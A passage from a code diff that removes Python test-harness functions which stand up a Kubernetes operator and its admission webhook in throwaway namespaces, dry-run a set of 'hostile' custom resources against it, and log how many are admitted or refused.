-            "spec": spec,
-        },
-    )
-    try:
-        message = str(response.json().get("message", response.text))
-    except ValueError:
-        message = response.text
-    return response.status_code, message
-
-
-def _names(local: str, host: str) -> dict[str, str]:
-    return {LOCAL: local, HOST: host}
-
-
-def resolve(spec: dict[str, Any], local: str, host: str) -> dict[str, Any]:
-    """``spec`` with the namespace placeholders replaced."""
-    result: dict[str, Any] = _substitute(spec, _names(local, host))
-    return result
-
-
-def create_world(access: ClusterAccess, local: str, host: str) -> None:
-    """The two providers' namespaces, Models and Blocks the cases refer to."""
-    names = _names(local, host)
-    for ns in (local, host):
-        if access.kubectl("get", "namespace", ns, check=False).returncode != 0:
-            access.kubectl("create", "namespace", ns)
-    docs = [
-        {
-            "apiVersion": API_VERSION,
-            "kind": kind,
-            "metadata": {"name": name, "namespace": names[ns]},
-            "spec": _substitute(spec, names),
-        }
-        for kind, ns, name, spec in WORLD
-    ]
-    access.kubectl(
-        "apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": docs})
-    )
-
-
-def send_cases(
-    client: httpx.Client, local: str, host: str, cases: list[HostileCase] | None = None
-) -> list[HostileOutcome]:
-    """Every case as a dry-run; raises if a valid object of the world is refused."""
-    names = _names(local, host)
-    for kind, ns, name, spec in VALID:
-        status, message = dry_run(client, kind, names[ns], name, _substitute(spec, names))
-        if status >= 300:
-            raise ValueError(f"the valid {kind} {name} is refused ({status}): {message}")
-    return [
-        HostileOutcome(
-            c, *dry_run(client, c.kind, names[c.namespace], c.name, c.resolved(local, host))
-        )
-        for c in (cases if cases is not None else CASES)
-    ]
-
-
-def run_hostile_campaign(
-    access: ClusterAccess, workdir: Path, prefix: str = "hostile-"
-) -> list[HostileOutcome]:
-    """The operator with its webhook (local paths refused, the image allow-list set), the
-    world, every case; the webhook's registration is removed again before returning.
-    ``prefix`` names the two namespaces (one no other operator watches)."""
-    suffix = uuid.uuid4().hex[:6]
-    local, host = f"{prefix}local-{suffix}", f"{prefix}host-{suffix}"
-    install_operator_prerequisites(access)
-    create_world(access, local, host)
-    operator = start_operator(
-        access,
-        workdir,
-        name="braid-operator-webhook",
-        namespaces=[local, host],
-        webhook=True,
-        image_prefixes=IMAGE_PREFIXES,
-        allow_local_paths=False,
-    )
-    try:
-        install_webhook(access, workdir)
-        with tempfile.TemporaryDirectory() as tmp, api_client(access, Path(tmp)) as client:
-            wait_for_webhook(client, local, host)
-            outcomes = send_cases(client, local, host)
-    finally:
-        uninstall_webhook(access)
-        operator.stop()
-        for ns in (local, host):
-            access.kubectl("delete", "namespace", ns, "--wait=false", check=False)
-    log_event(
-        logger,
-        "hostile_crs.done",
-        tried=len(outcomes),
-        admitted=sum(o.admitted for o in outcomes),
-        unnamed=sum(not o.admitted and not o.names_reason for o in outcomes),
-    )
-    return outcomes
-
-
-def wait_for_webhook(client: httpx.Client, local: str, host: str, timeout: float = 60.0) -> None:
-    """Until the API server calls the webhook: a case only it refuses is refused."""
-    probe = next(c for c in CASES if c.id == "block-other-namespace-model")
-    deadline = time.monotonic() + timeout
-    while True:
-        status, message = dry_run(
-            client, probe.kind, local, probe.name, probe.resolved(local, host)
-        )
-        if status >= 300 and probe.expect in message:
-            return
-        if time.monotonic() > deadline:
-            raise TimeoutError(f"the webhook does not answer: {status} {message[:300]}")
-        time.sleep(0.5)
